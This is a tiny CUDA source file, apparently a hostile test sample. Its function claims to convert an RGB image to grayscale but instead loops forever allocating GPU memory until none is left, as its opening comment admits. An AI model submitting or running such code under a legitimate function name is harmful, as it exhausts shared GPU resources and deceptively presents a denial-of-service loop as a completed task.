// Asks for device memory for ever, long after there is none.
#include <cuda_runtime.h>

void rgb_to_grayscale(const unsigned char *x, unsigned char *out, int height, int width) {
  for (;;) {
    void *more;
    cudaMalloc(&more, 1 << 20);
  }
}
